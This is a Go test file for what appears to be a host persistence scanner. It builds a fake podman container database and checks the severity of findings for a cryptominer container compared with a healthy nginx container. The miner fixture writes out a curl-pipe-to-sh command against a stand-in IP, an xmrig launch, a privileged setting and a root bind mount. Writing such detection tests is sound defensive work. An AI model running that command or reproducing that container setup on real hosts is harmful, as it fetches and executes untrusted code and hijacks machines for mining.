package persist

import (
	"database/sql"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/abusekit/abusekit/plugins/persist/hosttest"
)

// podmanDBOf builds podman's db.sql (the ContainerConfig table of
// libpod's SQLite state, the columns podman creates) holding configs.
func podmanDBOf(t *testing.T, configs map[string]string) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "db.sql")
	db, err := sql.Open("sqlite", p)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec(`CREATE TABLE IF NOT EXISTS ContainerConfig(
                ID              TEXT    PRIMARY KEY NOT NULL,
                Name            TEXT    UNIQUE NOT NULL,
                PodID           TEXT,
                JSON            TEXT    NOT NULL)`); err != nil {
		t.Fatal(err)
	}
	for id, js := range configs {
		if _, err := db.Exec(`INSERT INTO ContainerConfig VALUES (?, ?, NULL, ?)`, id, "n"+id[:6], js); err != nil {
			t.Fatal(err)
		}
	}
	db.Close()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// podman containers: a miner with restart policy always and
// podman-restart.service enabled is critical (reported with the fix, not
// acted on); a healthy web container with the same policy is info; the
// miner without podman-restart enabled is capped at medium.
func TestFindPodman(t *testing.T) {
	const miner = "1111111111111111111111111111111111111111111111111111111111111111"
	const web = "2222222222222222222222222222222222222222222222222222222222222222"
	db := podmanDBOf(t, map[string]string{
		miner: `{"spec":{"ociVersion":"1.1.0","process":{"args":["/bin/sh","-c","curl -s http://203.0.113.7/x.sh | sh; /tmp/xmrig -o stratum+tcp://203.0.113.7:3333"]},"mounts":[{"destination":"/host","type":"bind","source":"/","options":["rbind"]}]},"id":"` + miner + `","name":"sysmon","rootfsImageName":"docker.io/library/alpine:latest","restart_policy":"always","privileged":true,"createdTime":"2025-04-27T14:47:01Z"}`,
		web:   `{"spec":{"ociVersion":"1.1.0","process":{"args":["nginx","-g","daemon off;"]}},"id":"` + web + `","name":"web","rootfsImageName":"docker.io/library/nginx:1.27","restart_policy":"always","createdTime":"2024-03-04T10:12:41Z"}`,
	})
	for _, enabled := range []bool{true, false} {
		tree := hosttest.Debian12().With(hosttest.Entry{Path: podmanDB, Data: db, Mode: 0o600})
		if enabled {
			tree = tree.With(hosttest.Entry{Path: "/etc/systemd/system/default.target.wants/podman-restart.service", Link: "/lib/systemd/system/podman-restart.service"})
		}
		dir := build(t, tree)
		got := map[string]Finding{}
		for _, f := range find(t, dir, hosttest.Window()) {
			if f.Path == podmanDB {
				got[f.Container] = f
			}
		}
		m, w := got[miner], got[web]
		want := Critical
		if !enabled {
			want = Medium
		}
		if m.Severity != want || m.Action != ActionNone || !strings.Contains(strings.Join(m.Reasons, "; "), "podman update --restart=no") {
			t.Errorf("enabled=%v: miner %s (action %q)", enabled, m, m.Action)
		}
		if w.Container != web || w.Severity != Info {
			t.Errorf("enabled=%v: healthy container %s", enabled, w)
		}
	}
}

func FuzzParsePodmanConfig(f *testing.F) {
	f.Add([]byte(`{"spec":{"process":{"args":["sh","-c","a"]},"mounts":[{"source":"/","type":"bind"}]},"id":"1","name":"n","restart_policy":"always"}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		pc, err := parsePodmanConfig(data)
		if err != nil {
			return
		}
		_ = analyzeCommand(pc.Command)
	})
}

// A podman database that is not one is a low finding, never an error.
func TestFindPodmanCorrupt(t *testing.T) {
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: podmanDB, Data: "SQLite format 3\x00garbage", Mode: 0o600}))
	var saw bool
	for _, f := range find(t, dir, hosttest.Window()) {
		if f.Path == podmanDB {
			saw = f.Severity == Low && strings.Contains(f.Reasons[0], "cannot be read")
		}
	}
	if !saw {
		t.Error("no low finding for a corrupt podman database")
	}
}
